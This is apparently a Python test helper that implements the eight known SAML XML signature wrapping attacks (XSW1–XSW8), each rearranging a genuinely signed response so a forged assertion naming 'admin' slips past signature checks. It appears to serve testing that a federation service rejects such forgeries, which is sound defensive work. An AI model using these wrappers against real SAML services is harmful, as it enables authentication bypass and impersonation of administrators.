"""The eight known ways of signature wrapping, each over a response that the provider really signed.

Source: Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (2012), as the tool SAML Raider names them.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping

from lxml import etree

from tests.localcloud.federation.saml_signer import NAMESPACES, assertion

Wrap = Callable[[etree._Element], etree._Element]


def xsw1(signed: etree._Element) -> etree._Element:
    """A forged response, with the signed one inside of its signature."""
    return _around(signed, inside=True)


def xsw2(signed: etree._Element) -> etree._Element:
    """A forged response, with the signed one before its signature."""
    return _around(signed, inside=False)


def xsw3(signed: etree._Element) -> etree._Element:
    """The forged assertion stands before the signed one."""
    signed.insert(list(signed).index(assertion(signed)), _forged(assertion(signed)))
    return signed


def xsw4(signed: etree._Element) -> etree._Element:
    """The forged assertion holds the signed one."""
    good = assertion(signed)
    forged = _forged(good)
    signed.replace(good, forged)
    forged.append(good)
    return signed


def xsw5(signed: etree._Element) -> etree._Element:
    """The signature stands in the forged assertion, and the original without it at the end."""
    good = assertion(signed)
    original = _unsigned(good)
    _say_admin(good, "_evil")
    signed.append(original)
    return signed


def xsw6(signed: etree._Element) -> etree._Element:
    """The signature stands in the forged assertion, and the original without it inside of the signature."""
    good = assertion(signed)
    original = _unsigned(good)
    _say_admin(good, "_evil")
    _signature(good).append(original)
    return signed


def xsw7(signed: etree._Element) -> etree._Element:
    """The forged assertion has the id of the signed one, and stands in an extension before it."""
    extensions = etree.Element(f"{{{NAMESPACES['samlp']}}}Extensions")
    forged = _forged(assertion(signed))
    forged.set("ID", assertion(signed).get("ID", ""))
    extensions.append(forged)
    signed.insert(1, extensions)
    return signed


def xsw8(signed: etree._Element) -> etree._Element:
    """The forged assertion has the signature, which holds the original as an object."""
    good = assertion(signed)
    original = _unsigned(good)
    _say_admin(good, good.get("ID", ""))
    etree.SubElement(_signature(good), f"{{{NAMESPACES['ds']}}}Object").append(original)
    return signed


OF_RESPONSES: Mapping[str, Wrap] = {"xsw1": xsw1, "xsw2": xsw2}
OF_ASSERTIONS: Mapping[str, Wrap] = {f"xsw{wrap.__name__[3:]}": wrap for wrap in (xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)}


def _around(signed: etree._Element, *, inside: bool) -> etree._Element:
    forged, original, signature = copy.deepcopy(signed), _unsigned(signed), copy.deepcopy(_signature(signed))
    forged.remove(_signature(forged))
    _say_admin(assertion(forged), "_evil_assertion")
    forged.set("ID", "_evil")
    forged.insert(1, signature)
    if inside:
        signature.append(original)
    else:
        forged.insert(1, original)
    return forged


def _forged(good: etree._Element) -> etree._Element:
    forged = _unsigned(good)
    _say_admin(forged, "_evil")
    return forged


def _unsigned(element: etree._Element) -> etree._Element:
    copied = copy.deepcopy(element)
    copied.remove(_signature(copied))
    return copied


def _say_admin(forged: etree._Element, identifier: str) -> None:
    name_id = forged.find(".//saml:NameID", NAMESPACES)
    assert name_id is not None
    name_id.text = "admin"
    forged.set("ID", identifier)


def _signature(element: etree._Element) -> etree._Element:
    found = element.find("ds:Signature", NAMESPACES)
    assert found is not None
    return found
